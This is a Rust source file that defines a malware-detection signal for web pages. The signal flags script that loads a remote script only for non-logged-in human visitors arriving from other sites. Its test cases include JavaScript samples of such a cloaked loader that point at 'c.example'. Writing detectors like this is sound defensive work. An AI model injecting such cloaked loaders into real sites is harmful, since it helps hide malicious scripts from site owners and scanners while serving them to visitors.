//! `script-for-few-visitors`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "script-for-few-visitors",
    description: "The script loads another script only for human visitors who arrive from elsewhere and are not signed in.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::ScriptElement, Atom::ScriptFromHidden, Atom::ScriptFromAnswer]),
        one(&[Atom::SignedIn]),
        one(&[Atom::Robot, Atom::BrowserCheck]),
        one(&[Atom::Referrer]),
    ],
    within: 250,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"if(document.body.classList.contains('logged-in')||/bot|spider|crawler/i.test(navigator.userAgent)||document.referrer.indexOf(location.hostname)>=0)return;var s=document.createElement('script');s.src='//c.example/a.js?t='+n;document.head.appendChild(s)"#,
        ],
        without: &[
            r#"if(/bot|crawler/i.test(navigator.userAgent))return;var s=document.createElement('script');s.src='//c.example/a.js?r='+document.referrer;document.head.appendChild(s)"#,
            r#"if(document.body.classList.contains('logged-in'))return;var s=document.createElement('script');s.src='//c.example/a.js?r='+document.referrer;document.head.appendChild(s)"#,
        ],
    },
};
